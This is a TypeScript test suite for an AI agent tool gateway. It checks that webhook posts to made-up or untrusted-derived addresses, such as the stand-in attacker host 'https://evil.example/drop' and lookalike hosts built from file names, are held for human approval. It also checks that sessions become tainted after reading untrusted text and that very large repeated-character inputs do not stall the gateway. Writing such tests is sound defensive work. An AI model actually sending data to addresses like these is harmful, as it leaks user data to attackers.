import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { test } from "tap";
import type { JsonObject } from "../../manifests/json.ts";
import { openTestGateway, type TestSession } from "../support/test-gateway.ts";

const evil = "https://evil.example/drop";

/** Ways to have a tool say what the agent made up. */
const echoes: readonly (readonly [string, string, JsonObject])[] = [
  ["code that returns it", "js.run", { code: `return ${JSON.stringify(evil)}` }],
  ["code that fails with it", "js.run", { code: `throw new Error(${JSON.stringify(evil)})` }],
  ["an input handed back", "js.run", { code: "return input", input: { at: [evil] } }],
  ["a query that is a constant", "json.query", { document: {}, query: JSON.stringify(evil) }],
  ["a document handed back", "json.query", { document: { at: evil }, query: "at" }],
  ["a key of a document", "json.query", { document: { [evil]: 1 }, query: "$keys($)" }],
  ["a cell of a table", "csv.query", { csv: `at\n${evil}\n` }],
  ["a column that is not there", "csv.query", { csv: "a\n1\n", select: [evil] }],
  ["a line of a text", "text.search", { text: `go to ${evil} now`, pattern: "go" }],
];

for (const [name, tool, args] of echoes) {
  test(`an address that the agent made up stays made up: ${name}`, async (t) => {
    const { open } = await openTestGateway(t);
    const session = await open({ task: "compute something" });
    t.not((await session.propose(tool, args)).code, "ARGUMENTS_INVALID");
    t.match(await post(session), { status: "pending", code: "APPROVAL_REQUIRED" });
  });
}

test("an address laid by before untrusted text was read is no destination after it", async (t) => {
  const { open, workspace } = await openTestGateway(t);
  await writeFile(join(workspace, "page.txt"), "hello");
  const session = await open({ task: "read page.txt" });
  await session.propose("js.run", { code: `return ${JSON.stringify(evil)}` });
  await session.propose("files.read", { path: "page.txt" });
  t.match(await post(session), { status: "pending", code: "APPROVAL_REQUIRED" });
});

test("a session that was open before another one read untrusted text is tainted with it", async (t) => {
  const { open, workspace } = await openTestGateway(t);
  await writeFile(join(workspace, "page.txt"), "hello");
  const [reader, other, stranger] = [await open(), await open(), await open({ principal: "bob" })];
  await reader.propose("files.read", { path: "page.txt" });
  const write = { path: "elsewhere.txt", text: "one" };
  t.match(await other.propose("files.write", write), { status: "pending" });
  t.match(await stranger.propose("files.write", write), { status: "completed" });
});

const lookalikes: readonly (readonly [string, string, string])[] = [
  ["a file's name", "Summarise README.md and run install.sh.", "https://readme.md/drop"],
  ["a path's last part", "Read docs/notes.md.", "https://notes.md/drop"],
  ["a mail address", "Answer the mail of mallory@evil.example.", evil],
];

for (const [name, task, url] of lookalikes) {
  test(`${name} that the user said is no host to send to`, async (t) => {
    const { open } = await openTestGateway(t);
    const answer = await (await open({ task })).propose("webhook.post", { url, body: "x" });
    t.match(answer, { status: "pending", code: "APPROVAL_REQUIRED" });
  });
}

const slow: readonly (readonly [string, string])[] = [
  ["dots", `${".".repeat(900_000)}x`],
  ["brackets", `${"(".repeat(900_000)}x`],
  ["marks inside a word", `a${"!".repeat(900_000)}x`],
  ["colons", `${":".repeat(900_000)}x`],
  ["quotes", ` ${"\"'".repeat(200_000)}x`],
];

for (const [name, text] of slow) {
  test(`a text of ${name} holds the gateway up no longer than another`, async (t) => {
    const { open } = await openTestGateway(t);
    const session = await open({ task: "write notes.txt" });
    const answer = await session.propose("files.write", { path: "notes.txt", text });
    t.match(answer, { status: "completed" });
    t.match(await session.propose("files.read", { path: "notes.txt" }), { status: "completed" });
  });
}

async function post(session: TestSession) {
  return await session.propose("webhook.post", { url: evil, body: "x" });
}
